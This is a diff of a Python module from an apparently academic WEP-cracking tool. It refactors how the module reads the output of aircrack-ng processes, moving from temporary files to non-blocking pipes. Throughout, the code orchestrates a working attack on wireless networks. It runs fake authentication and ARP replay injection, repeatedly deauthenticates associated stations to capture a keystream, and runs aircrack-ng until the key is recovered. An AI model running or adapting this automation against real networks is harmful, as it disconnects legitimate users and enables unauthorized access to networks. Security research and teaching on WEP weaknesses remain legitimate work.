@@ -19,9 +19,8 @@ Martin Vondracek
 - Feedback from running subprocesses is obtained from their stdout and stderr. Method Popen.communicate() is
   unfortunately not suitable. 'Read data from stdout and stderr, until end-of-file is reached. Wait for process
   to terminate.'
-  Reading of stdout and stderr is done continuously while the subprocess is running. This is achieved by that
-  the subprocess is writing its stdout and stderr to temporary files. These files are then opened again and continuous
-  writing and reading is performed. There's only one writer and one reader per file.
+  Reading of stdout and stderr is done continuously while the subprocess is running. The subprocess writes its stdout
+  and stderr to pipes, newly available complete lines are drained from the non-blocking read ends on every update.
 - Subprocesses' feedback result is available as an update of process' state, flags and stats. State describes current
   position in a lifecycle of the process. Flags can be set or cleared based on events during life of the process.
   Flags can be later cleared or set by other parts of the script - after the flag was recognised and appropriate
@@ -31,14 +30,16 @@ Martin Vondracek
 import logging
 import os
 import re
+import selectors
 import subprocess
+import tempfile
 import time
 from enum import Enum, unique
-from typing import Dict
+from typing import Dict, Optional, Sequence
 
-from .updatableProcess import UpdatableProcess
+from .updatableProcess import LineScannerProcess, UpdatableProcess
 
-from .common import WirelessCapturer, deauthenticate
+from .common import WirelessCapturer, deauthenticate_many
 from .model import WirelessAccessPoint, WirelessInterface
 
 __author__ = 'Martin Vondracek'
@@ -47,7 +48,33 @@ __email__ = 'xvondr20@stud.fit.vutbr.cz'
 logger = logging.getLogger(__name__)
 
 
-class FakeAuthentication(UpdatableProcess):
+def _update_on_feedback(processes: Sequence[UpdatableProcess], timeout: float):
+    """
+    Block until stdout or stderr of some of the `processes` becomes readable, or until `timeout` expires.
+    Processes with readable feedback are updated immediately. On timeout expiry, all `processes` are updated so that
+    termination checks (`poll`) in their `update` methods still fire periodically.
+    NOTE: A terminated process wakes the selector immediately, because end-of-file on its pipe is reported
+    as `selectors.EVENT_READ`.
+    :type processes: Sequence[UpdatableProcess]
+    :param processes: processes to be watched and updated
+
+    :param timeout: maximum time in seconds to wait for feedback
+    """
+    with selectors.DefaultSelector() as sel:
+        for process in processes:
+            for reader in (process.stdout_r, process.stderr_r):
+                if reader and not reader.closed:
+                    sel.register(reader, selectors.EVENT_READ, process)
+        ready = {key.data for key, _ in sel.select(timeout=timeout)}
+    if ready:
+        for process in ready:
+            process.update()
+    else:
+        for process in processes:
+            process.update()
+
+
+class FakeAuthentication(LineScannerProcess):
     """
     "The  fake authentication attack allows you to perform the two types of WEP authentication (Open System and
     Shared Key) plus associate with the access point (AP). This is only useful when you need  an associated  MAC
@@ -59,6 +86,17 @@ class FakeAuthentication(UpdatableProcess):
     Process at first tries Open System Authentication. If OSA is not supported and Shared Key Authentication is
     required, 'ska_required' flag is set. Fake Shared Key Authentication requires a keystream file to be provided.
     """
+    # compiled regular expression matching all interesting lines of process' stdout; a single scan per line replaces
+    # a cascade of substring tests, the matched alternative is available as `match.lastgroup`
+    # NOTE: The pattern is bytes-based, raw lines are scanned without decoding. All matched keywords are ASCII.
+    CRE_DISPATCH = re.compile(
+        rb'(?P<beacon>Waiting for beacon frame)|'
+        rb'(?P<associated>Association successful)|'
+        rb'(?P<deauth>Got a deauthentication packet!)|'
+        rb'(?P<ska>Switching to shared key authentication)'
+    )
+
+    STDERR_SOURCE = 'aireplay-ng'
 
     @unique
     class State(Enum):
@@ -75,7 +113,8 @@ class FakeAuthentication(UpdatableProcess):
         """Process have been terminated. By self.stop() call, on its own or by someone else."""
 
     def __init__(self, interface: WirelessInterface, ap: WirelessAccessPoint,
-                 reassoc_delay=30, keep_alive_delay=5):
+                 reassoc_delay=30, keep_alive_delay=5,
+                 tmp_dir: Optional[tempfile.TemporaryDirectory]=None):
         """
         Uses previously saved PRGA XOR, if available.
         :type interface: WirelessInterface
@@ -86,6 +125,9 @@ class FakeAuthentication(UpdatableProcess):
 
         :param reassoc_delay: reassociation timing in seconds
         :param keep_alive_delay: time between keep-alive packets
+
+        :type tmp_dir: Optional[tempfile.TemporaryDirectory]
+        :param tmp_dir: working directory shared across restarts, owned by the caller
         """
         self.state = self.State.STARTED
         self.flags = self.__initial_flags()
@@ -102,7 +144,10 @@ class FakeAuthentication(UpdatableProcess):
             cmd.append('-y')
             cmd.append(self.ap.prga_xor_path)
         cmd.append(self.interface.name)
-        super().__init__(cmd)  # start process
+        # NOTE: Aireplay-ng writes all its regular feedback to stdout. Stderr stays empty in normal operation
+        # - an empty pipe costs a single non-blocking read per update - but carries the only diagnostics
+        # (monitor mode and ioctl errors) when the tool fails, so it stays captured and warned about.
+        super().__init__(cmd, tmp_dir=tmp_dir)  # start process
 
     def __str__(self):
         return '<{!s} state={!s}, flags={!s}>'.format(
@@ -121,48 +166,30 @@ class FakeAuthentication(UpdatableProcess):
         """Flag 'needs_prga_xor' is set if PRGA XOR file is needed for shared key authentication."""
         return flags
 
-    def update(self):
+    def _scan_stdout_line(self, line: bytes):
         """
-        Update state of running process from process' feedback.
-        Read new output from stdout and stderr, check if process is alive. Set appropriate flags.
+        Scan a single raw line of process' stdout. Set appropriate state and flags.
+        :type line: bytes
+        :param line: raw line of process' stdout, including its trailing newline
         """
-        super().update()
-        # Is process running? State would be changed after reading stdout and stderr.
-        self.poll()
-
-        # check every added line in stdout
-        if self.stdout_r and not self.stdout_r.closed:
-            for line in self.stdout_r:
-                if 'Waiting for beacon frame' in line:
-                    self.state = self.State.WAITING_FOR_A_BEACON_FRAME
-                elif 'Association successful' in line:
-                    self.state = self.State.SENDING_KEEP_ALIVE
-                elif 'Got a deauthentication packet!' in line:
-                    # set flag to notify that at least one deauthentication packet was received since last update
-                    self.flags['deauthenticated'] = True
-                    logger.warning('FakeAuthentication received a deauthentication packet!')
-                elif 'Switching to shared key authentication' in line and not self.ap.prga_xor_path:
-                    self.flags['needs_prga_xor'] = True
-                    logger.info('FakeAuthentication needs PRGA XOR.')
-
-        # check stderr
-        if self.stderr_r and not self.stderr_r.closed:
-            for line in self.stderr_r:  # type: str
-                # NOTE: stderr should be empty
-                logger.warning("Unexpected stderr of 'aireplay-ng --fakeauth': '{}'. {}".format(line, str(self)))
-
-        # Change state if process was not running in the time of poll() call in the beginning of this method.
-        # NOTE: Process' poll() needs to be called in the beginning of this method and returncode checked in the end
-        # to ensure all feedback (stdout and stderr) is read and states are changed accordingly.
-        # If the process exited, its state is not changed immediately. All available feedback is read and then
-        # the state is changed to self.State.TERMINATED. State, flags,stats and others can be changed during reading
-        # the available feedback even if the process exited. But self.State.TERMINATED is assigned here if
-        # the process exited.
-        if self.returncode is not None:
-            self.state = self.State.TERMINATED
-
-
-class ArpReplay(UpdatableProcess):
+        m = self.CRE_DISPATCH.search(line)
+        if not m:
+            return
+        event = m.lastgroup
+        if event == 'beacon':
+            self.state = self.State.WAITING_FOR_A_BEACON_FRAME
+        elif event == 'associated':
+            self.state = self.State.SENDING_KEEP_ALIVE
+        elif event == 'deauth':
+            # set flag to notify that at least one deauthentication packet was received since last update
+            self.flags['deauthenticated'] = True
+            logger.warning('FakeAuthentication received a deauthentication packet!')
+        elif event == 'ska' and not self.ap.prga_xor_path:
+            self.flags['needs_prga_xor'] = True
+            logger.info('FakeAuthentication needs PRGA XOR.')
+
+
+class ArpReplay(LineScannerProcess):
     """
     The classic ARP request replay attack is the most effective way to generate new initialization vectors  (IVs),
     and works very reliably. The program listens for an ARP packet then retransmits it back to the access point.
@@ -172,14 +199,27 @@ class ArpReplay(UpdatableProcess):
 
     `arp-request_reinjection[Aircrack-ng]<http://www.aircrack-ng.org/doku.php?id=arp-request_reinjection>`_
     """
-    # compiled regular expressions
-    cre_ok = re.compile(
-        r'^Read (?P<read>\d+) packets \(got (?P<ARPs>\d*[1-9]\d*) ARP requests and (?P<ACKs>\d*[1-9]\d*) ACKs\),'
-        r' sent (?P<sent>\d*[1-9]\d*) packets...\((?P<pps>\d+) pps\)$'
+    # compiled regular expressions matching interesting lines of process' stdout; compiled once at class creation,
+    # so repeated ArpReplay restarts during an attack share the same pattern objects
+    # NOTE: The patterns are bytes-based, raw lines are scanned without decoding. Only the few captured groups of
+    # a matched line are decoded. All matched keywords are ASCII.
+    # The stats line and the capture filename announce are anchored and begin with a fixed literal, so a cheap
+    # prefix test selects which single anchored pattern to run. The remaining keywords can appear anywhere in
+    # a line and share one unanchored alternation, the matched alternative is decided by named groups.
+    CRE_OK = re.compile(
+        rb'^Read (?P<read>\d+) packets \(got (?P<ARPs>\d*[1-9]\d*) ARP requests'
+        rb' and (?P<ACKs>\d*[1-9]\d*) ACKs\), sent (?P<sent>\d*[1-9]\d*) packets...\((?P<pps>\d+) pps\)$'
     )
-    cre_cap_filename = re.compile(
-        r'^Saving ARP requests in (?P<cap_filename>replay_arp.+\.cap)$'
+    CRE_CAP = re.compile(
+        rb'^Saving ARP requests in (?P<cap_filename>replay_arp.+\.cap)$'
     )
+    CRE_DISPATCH = re.compile(
+        rb'(?P<beacon>Waiting for beacon frame)|'
+        rb'(?P<no_arp>got 0 ARP requests)|'
+        rb'(?P<deauth>Notice: got a deauth/disassoc packet\. Is the source MAC associated \?)'
+    )
+
+    STDERR_SOURCE = 'aireplay-ng'
 
     @unique
     class State(Enum):
@@ -197,7 +237,8 @@ class ArpReplay(UpdatableProcess):
         TERMINATED = 100
         """Process have been terminated. By self.stop() call, on its own or by someone else."""
 
-    def __init__(self, interface: WirelessInterface, ap: WirelessAccessPoint, source_mac):
+    def __init__(self, interface: WirelessInterface, ap: WirelessAccessPoint, source_mac,
+                 tmp_dir: Optional[tempfile.TemporaryDirectory]=None):
         """
         Start ARP Replay attack process.
         Uses previously saved ARP capture, if available.
@@ -209,6 +250,9 @@ class ArpReplay(UpdatableProcess):
         :param interface: wireless interface for connection
 
         :param source_mac: Source MAC address for replayed ARP packets
+
+        :type tmp_dir: Optional[tempfile.TemporaryDirectory]
+        :param tmp_dir: working directory shared across restarts, owned by the caller
         """
         self.state = self.State.STARTED
         self.flags = self.__initial_flags()
@@ -228,14 +272,13 @@ class ArpReplay(UpdatableProcess):
             cmd.append('-r')
             cmd.append(self.ap.arp_cap_path)
         cmd.append(self.interface.name)
-        super().__init__(cmd)
+        # NOTE: Aireplay-ng writes all its regular feedback to stdout, stderr stays empty in normal operation
+        # but carries the tool's error messages when it fails, so it stays captured and warned about.
+        super().__init__(cmd, tmp_dir=tmp_dir)
 
     def __str__(self):
-        s = '<ArpReplay state=' + str(self.state) + \
-            ', flags=' + str(self.flags) + \
-            ', stats=' + str(self.stats) + \
-            '>'
-        return s
+        return '<{!s} state={!s}, flags={!s}, stats={!s}>'.format(
+            type(self).__name__, self.state, self.flags, self.stats)
 
     @staticmethod
     def __initial_flags() -> Dict[str, bool]:
@@ -263,61 +306,48 @@ class ArpReplay(UpdatableProcess):
         }
         return stats
 
-    def update(self):
+    def _scan_stdout_line(self, line: bytes):
         """
-        Update state of running process from process' feedback.
-        Read new output from stdout and stderr, check if process is alive. Set appropriate flags and stats.
+        Scan a single raw line of process' stdout. Set appropriate state, flags and stats.
+        :type line: bytes
+        :param line: raw line of process' stdout, including its trailing newline
         """
-        super().update()
-        # Is process running? State would be changed after reading stdout and stderr.
-        self.poll()
-
-        # check every added line in stdout
-        if self.stdout_r and not self.stdout_r.closed:
-            for line in self.stdout_r:
-                if 'Waiting for beacon frame' in line:
-                    self.state = self.State.WAITING_FOR_A_BEACON_FRAME
-                elif 'got 0 ARP requests' in line:
-                    self.state = self.State.WAITING_FOR_AN_ARP_REQUEST
-                elif 'Notice: got a deauth/disassoc packet. Is the source MAC associated ?' in line:
-                    # set flag to notify that at least one deauthentication packet was received since last update
-                    self.flags['deauthenticated'] = True
-                    logger.warning('ArpReplay received a deauthentication packet!')
-                else:
-                    m = self.cre_ok.match(line)
-                    if m:
-                        # correct output line detected
-                        self.state = self.State.REPLAYING
-                        # update stats
-                        self.stats['read'] = m.group('read')
-                        self.stats['ACKs'] = m.group('ACKs')
-                        self.stats['ARPs'] = m.group('ARPs')
-                        self.stats['sent'] = m.group('sent')
-                        self.stats['pps'] = m.group('pps')
-                        # save ARP Requests if the network does not have ARP capture file already
-                        if not self.ap.arp_cap_path and self.cap_path:
-                            self.ap.save_arp_cap(self.cap_path)
-
-                    m = self.cre_cap_filename.match(line)
-                    if m:
-                        # capture filename announce detected
-                        self.cap_path = os.path.join(self.tmp_dir.name, m.group('cap_filename'))
-
-        # check stderr
-        if self.stderr_r and not self.stderr_r.closed:
-            for line in self.stderr_r:  # type: str
-                # NOTE: stderr should be empty
-                logger.warning("Unexpected stderr of 'aireplay-ng --arpreplay': '{}'. {}".format(line, str(self)))
-
-        # Change state if process was not running in the time of poll() call in the beginning of this method.
-        # NOTE: Process' poll() needs to be called in the beginning of this method and returncode checked in the end
-        # to ensure all feedback (stdout and stderr) is read and states are changed accordingly.
-        # If the process exited, its state is not changed immediately. All available feedback is read and then
-        # the state is changed to self.State.TERMINATED. State, flags,stats and others can be changed during reading
-        # the available feedback even if the process exited. But self.State.TERMINATED is assigned here if
-        # the process exited.
-        if self.returncode is not None:
-            self.state = self.State.TERMINATED
+        if line.startswith(b'Read '):
+            # the per-second stats line dominates process' output, the prefix test routes it straight
+            # to its anchored pattern
+            m = self.CRE_OK.match(line)
+            if m:
+                # correct output line detected
+                self.state = self.State.REPLAYING
+                # update stats
+                stats = self.stats
+                stats['read'] = m.group('read').decode()
+                stats['ACKs'] = m.group('ACKs').decode()
+                stats['ARPs'] = m.group('ARPs').decode()
+                stats['sent'] = m.group('sent').decode()
+                stats['pps'] = m.group('pps').decode()
+                # save ARP Requests if the network does not have ARP capture file already
+                if not self.ap.arp_cap_path and self.cap_path:
+                    self.ap.save_arp_cap(self.cap_path)
+                return
+            # a stats line with zero ARP requests falls through to the alternation below ('no_arp')
+        elif line.startswith(b'Saving '):
+            m = self.CRE_CAP.match(line)
+            if m:
+                # capture filename announce detected
+                self.cap_path = os.path.join(self.tmp_dir.name, m.group('cap_filename').decode())
+            return
+        m = self.CRE_DISPATCH.search(line)
+        if not m:
+            return
+        if m.group('beacon'):
+            self.state = self.State.WAITING_FOR_A_BEACON_FRAME
+        elif m.group('no_arp'):
+            self.state = self.State.WAITING_FOR_AN_ARP_REQUEST
+        elif m.group('deauth'):
+            # set flag to notify that at least one deauthentication packet was received since last update
+            self.flags['deauthenticated'] = True
+            logger.warning('ArpReplay received a deauthentication packet!')
 
     def cleanup(self, stop=True):
         """
@@ -329,7 +359,7 @@ class ArpReplay(UpdatableProcess):
         self.cap_path = None  # file was deleted with tmp_dir
 
 
-class WepCracker(UpdatableProcess):
+class WepCracker(LineScannerProcess):
     """
     Aircrack-ng can recover the WEP key once enough encrypted packets have been captured with airodump-ng. This part
     of the aircrack-ng suite determines the WEP key using two fundamental methods. The first method is via the PTW
@@ -344,6 +374,8 @@ class WepCracker(UpdatableProcess):
     `aircrack-ng[Aircrack-ng] <http://www.aircrack-ng.org/doku.php?id=aircrack-ng>`_
     """
 
+    STDERR_SOURCE = 'aircrack-ng'
+
     @unique
     class State(Enum):
         """
@@ -356,7 +388,7 @@ class WepCracker(UpdatableProcess):
         TERMINATED = 100
         """Process have been terminated. By self.stop() call, on its own or by someone else."""
 
-    def __init__(self, cap_filepath, ap):
+    def __init__(self, cap_filepath, ap, tmp_dir: Optional[tempfile.TemporaryDirectory]=None):
         self.state = self.State.STARTED
 
         self.cap_filepath = cap_filepath
@@ -369,54 +401,34 @@ class WepCracker(UpdatableProcess):
                '-l', 'psk.hex',  # Write the key into a file.
                self.cap_filepath]
         # NOTE: Aircrack-ng does not flush when stdout is redirected to file and -q is set.
-        super().__init__(cmd)  # start process
+        # NOTE: Aircrack-ng writes all its regular feedback to stdout, stderr stays empty in normal operation
+        # but carries the tool's error messages when it fails, so it stays captured and warned about.
+        super().__init__(cmd, tmp_dir=tmp_dir)  # start process
 
     def __str__(self):
         return '<{!s} state={!s}>'.format(
             type(self).__name__, self.state)
 
-    def update(self):
+    def _scan_stdout_line(self, line: bytes):
         """
-        Update state of running process from process' feedback.
-        Read new output from stdout and stderr, check if process is alive.
+        Scan a single raw line of process' stdout. Set appropriate state.
         Aircrack-ng does not flush when stdout is redirected to file and -q is set. Complete stdout is available
         in the moment of termination of aircrack-ng.
+        :type line: bytes
+        :param line: raw line of process' stdout, including its trailing newline
         """
-        super().update()
-        # Is process running? State would be changed after reading stdout and stderr.
-        self.poll()
-
-        # check every added line in stdout
-        if self.stdout_r and not self.stdout_r.closed:
-            for line in self.stdout_r:
-                if 'Failed. Next try with' in line:
-                    if self.state != self.State.TERMINATED:
-                        self.state = self.State.CRACKING
-                elif 'KEY FOUND!' in line:
-                    if self.state != self.State.TERMINATED:
-                        self.state = self.State.CRACKING
-                    self.ap.save_psk_file(os.path.join(self.tmp_dir.name, 'psk.hex'))
-                    logger.debug('WepCracker found key!')
-                elif 'Decrypted correctly:' in line:
-                    if '100%' not in line:
-                        # Incorrect decryption?
-                        logger.warning(line)
-
-        # check stderr
-        if self.stderr_r and not self.stderr_r.closed:
-            for line in self.stderr_r:  # type: str
-                # NOTE: stderr should be empty
-                logger.warning("Unexpected stderr of 'aircrack-ng': '{}'. {}".format(line, str(self)))
-
-        # Change state if process was not running in the time of poll() call in the beginning of this method.
-        # NOTE: Process' poll() needs to be called in the beginning of this method and returncode checked in the end
-        # to ensure all feedback (stdout and stderr) is read and states are changed accordingly.
-        # If the process exited, its state is not changed immediately. All available feedback is read and then
-        # the state is changed to self.State.TERMINATED. State, flags,stats and others can be changed during reading
-        # the available feedback even if the process exited. But self.State.TERMINATED is assigned here if
-        # the process exited.
-        if self.returncode is not None:
-            self.state = self.State.TERMINATED
+        if b'Failed. Next try with' in line:
+            if self.state != self.State.TERMINATED:
+                self.state = self.State.CRACKING
+        elif b'KEY FOUND!' in line:
+            if self.state != self.State.TERMINATED:
+                self.state = self.State.CRACKING
+            self.ap.save_psk_file(os.path.join(self.tmp_dir.name, 'psk.hex'))
+            logger.debug('WepCracker found key!')
+        elif b'Decrypted correctly:' in line:
+            if b'100%' not in line:
+                # Incorrect decryption?
+                logger.warning(line.decode())
 
 
 class WepAttacker(object):
@@ -446,84 +458,99 @@ class WepAttacker(object):
         """
         if not force and self.ap.is_cracked():
             #  AP already cracked
-            logger.info('Known ' + str(self.ap))
+            logger.info('Known %s', self.ap)
             return
-        with WirelessCapturer(interface=self.monitoring_interface,
-                              ap=self.ap) as capturer:
-            with FakeAuthentication(interface=self.monitoring_interface,
-                                    ap=self.ap) as fake_authentication:
-                time.sleep(1)
-
-                # authenticate
-                while fake_authentication.state != FakeAuthentication.State.SENDING_KEEP_ALIVE:
-                    fake_authentication.update()
-                    logger.debug(fake_authentication)
-
-                    if fake_authentication.flags['needs_prga_xor']:
-                        # stop fakeauth without prga_xor
-                        fake_authentication.stop()
-                        # deauthenticate stations to acquire prga_xor
-                        result = capturer.get_capture_result()
-                        if len(result):  # if AP was detected by capturer
-                            tmp_ap = result[0]
-                            while not capturer.has_prga_xor():
-                                for st in tmp_ap.associated_stations:
-                                    deauthenticate(self.monitoring_interface, st)
-                                    time.sleep(2)
-                                    if capturer.has_prga_xor():
-                                        break
-                            self.ap.save_prga_xor(capturer.capturing_xor_path)
-                            logger.info('PRGA XOR detected.')
-                            # start fakeauth with prga_xor
-                            fake_authentication.cleanup()
-                            fake_authentication = FakeAuthentication(interface=self.monitoring_interface, ap=self.ap)
-                            time.sleep(1)
-                        else:
-                            logger.info('Network not detected by capturer yet.')
-
-                    if fake_authentication.flags['deauthenticated']:
-                        # wait and restart fakeauth
-                        fake_authentication.cleanup()
-                        logger.debug('fakeauth: 5 s backoff')
-                        time.sleep(5)
-                        fake_authentication = FakeAuthentication(interface=self.monitoring_interface, ap=self.ap)
-                    time.sleep(2)
-
-                    if fake_authentication.state == FakeAuthentication.State.TERMINATED and\
-                            not (fake_authentication.flags['needs_prga_xor'] or
-                                 fake_authentication.flags['deauthenticated']):
-                        logger.error('FakeAuthentication unexpectedly terminated. {}'.format(str(fake_authentication)))
-                        raise subprocess.CalledProcessError(returncode=fake_authentication.poll(),
-                                                            cmd=fake_authentication.args)
-
-                with ArpReplay(interface=self.monitoring_interface,
-                               ap=self.ap,
-                               source_mac=self.monitoring_interface.mac_address) as arp_replay:
-                    # some time to create capture capturer.capturing_cap_path
-                    while int(capturer.get_iv_sum()) < 100:
-                        capturer.update()
-                        fake_authentication.update()
-                        arp_replay.update()
-
-                        logger.debug(capturer)
+        # Working directory shared by the attack processes. One directory is created per attack instead of one per
+        # process lifecycle, so restarts of FakeAuthentication in the loop below do not churn mkdir/rmdir and
+        # a partially captured ARP file survives them.
+        tmp_dir = tempfile.TemporaryDirectory(prefix='WepAttacker')
+        try:
+            with WirelessCapturer(interface=self.monitoring_interface,
+                                  ap=self.ap) as capturer:
+                with FakeAuthentication(interface=self.monitoring_interface,
+                                        ap=self.ap, tmp_dir=tmp_dir) as fake_authentication:
+                    # authenticate
+                    while fake_authentication.state != FakeAuthentication.State.SENDING_KEEP_ALIVE:
+                        # The capturer has to be updated here as well, otherwise its stderr pipe fills up with
+                        # airodump-ng's TUI redraws and airodump-ng blocks on write, stopping the CSV and .xor
+                        # file updates this loop waits for.
+                        _update_on_feedback([capturer, fake_authentication], timeout=2)
                         logger.debug(fake_authentication)
-                        logger.debug(arp_replay)
-
-                        time.sleep(1)
 
-                    with WepCracker(cap_filepath=capturer.capturing_cap_path,
-                                    ap=self.ap) as cracker:
-                        while not self.ap.is_cracked():
-                            capturer.update()
-                            fake_authentication.update()
-                            arp_replay.update()
-                            cracker.update()
+                        if fake_authentication.flags['needs_prga_xor']:
+                            # stop fakeauth without prga_xor
+                            fake_authentication.stop()
+                            # deauthenticate stations to acquire prga_xor
+                            result = capturer.get_capture_result()
+                            if len(result):  # if AP was detected by capturer
+                                tmp_ap = result[0]
+                                # Back off exponentially between deauthentications instead of sleeping a fixed
+                                # 2 s per station. PRGA XOR usually arrives within the first second, so short
+                                # initial delays pick it up almost immediately; if it keeps failing, growing
+                                # delays avoid hammering the network with deauth series. One broadcast series
+                                # covers all associated stations with a single aireplay-ng spawn.
+                                delay = 0.2
+                                while not capturer.has_prga_xor():
+                                    deauthenticate_many(self.monitoring_interface, tmp_ap.associated_stations)
+                                    time.sleep(delay)
+                                    delay = min(delay * 2, 10)
+                                    capturer.update()  # keep draining the capturer's pipes while waiting
+                                self.ap.save_prga_xor(capturer.capturing_xor_path)
+                                logger.info('PRGA XOR detected.')
+                                # start fakeauth with prga_xor
+                                fake_authentication.cleanup()
+                                fake_authentication = FakeAuthentication(
+                                    interface=self.monitoring_interface, ap=self.ap, tmp_dir=tmp_dir)
+                            else:
+                                logger.info('Network not detected by capturer yet.')
+
+                        if fake_authentication.flags['deauthenticated']:
+                            # wait and restart fakeauth
+                            fake_authentication.cleanup()
+                            logger.debug('fakeauth: 5 s backoff')
+                            time.sleep(5)
+                            fake_authentication = FakeAuthentication(
+                                interface=self.monitoring_interface, ap=self.ap, tmp_dir=tmp_dir)
+
+                        if fake_authentication.state == FakeAuthentication.State.TERMINATED and\
+                                not (fake_authentication.flags['needs_prga_xor'] or
+                                     fake_authentication.flags['deauthenticated']):
+                            logger.error('FakeAuthentication unexpectedly terminated. %s', fake_authentication)
+                            raise subprocess.CalledProcessError(returncode=fake_authentication.poll(),
+                                                                cmd=fake_authentication.args)
+
+                    with ArpReplay(interface=self.monitoring_interface,
+                                   ap=self.ap,
+                                   source_mac=self.monitoring_interface.mac_address,
+                                   tmp_dir=tmp_dir) as arp_replay:
+                        while int(capturer.get_iv_sum()) < 100:
+                            _update_on_feedback([capturer, fake_authentication, arp_replay], timeout=1)
 
                             logger.debug(capturer)
                             logger.debug(fake_authentication)
                             logger.debug(arp_replay)
-                            logger.debug(cracker)
-                            logger.info('#IV = ' + str(capturer.get_iv_sum()))
 
-                            time.sleep(2)
-                        logger.info('Cracked ' + str(self.ap))
+                        # Wait until airodump-ng creates capturer.capturing_cap_path needed by aircrack-ng. The file
+                        # is usually there long before enough IVs are collected, so this returns immediately; the spin
+                        # is bounded instead of sleeping a fixed time.
+                        deadline = time.monotonic() + 10
+                        while not os.path.isfile(capturer.capturing_cap_path):
+                            if time.monotonic() > deadline:
+                                raise TimeoutError(
+                                    "Capture file '{}' was not created.".format(capturer.capturing_cap_path))
+                            time.sleep(0.05)
+
+                        with WepCracker(cap_filepath=capturer.capturing_cap_path,
+                                        ap=self.ap, tmp_dir=tmp_dir) as cracker:
+                            while not self.ap.is_cracked():
+                                _update_on_feedback([capturer, fake_authentication, arp_replay, cracker], timeout=5)
+
+                                logger.debug(capturer)
+                                logger.debug(fake_authentication)
+                                logger.debug(arp_replay)
+                                logger.debug(cracker)
+                                if logger.isEnabledFor(logging.INFO):
+                                    logger.info('#IV = %s', capturer.get_iv_sum())
+                            logger.info('Cracked %s', self.ap)
+        finally:
+            tmp_dir.cleanup()